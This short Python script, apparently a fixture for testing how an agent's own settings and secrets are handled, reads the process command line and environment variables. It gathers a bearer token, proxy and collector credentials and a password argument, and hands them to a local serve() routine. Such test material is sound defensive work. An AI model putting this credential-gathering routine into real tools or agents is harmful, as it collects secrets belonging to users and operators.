"""Secrets among the agent's own settings: put there by mistake, or by a habit of other tools."""

from __future__ import annotations

import itertools
import os

from protocol import Place, serve, told


def waits(place: Place) -> None:
    while place.parked():
        place.found(place.take())


def found() -> dict[str, str]:
    with open("/proc/self/cmdline", "rb") as own:
        words = own.read().decode().split("\0")
    given = [word.partition("=") for word in words]
    pairs = list(itertools.pairwise(words))
    proxy = os.environ["https_proxy"]
    return {
        "userinfo": os.environ["TANDEM_COLLECTOR"].split(":")[2].partition("@")[0],
        "rate": os.environ["TANDEM_WALL_HZ"],
        "switch": os.environ["TANDEM_LINES"],
        "path_of_url": os.environ["TANDEM_AUDIT_FILE"].rpartition("\n")[2],
        "labels": os.environ["TANDEM_LABELS"],
        "token": os.environ["TANDEM_BEARER"],
        "proxy": proxy.split(":")[2].partition("@")[0],
        "unknown_setting": next(value for name, _, value in given if name == "password"),
        "no_setting": next(two for one, two in pairs if one == "--set" and "=" not in two),
    }


if __name__ == "__main__":
    serve(told(), {"anywhere": waits}, found)
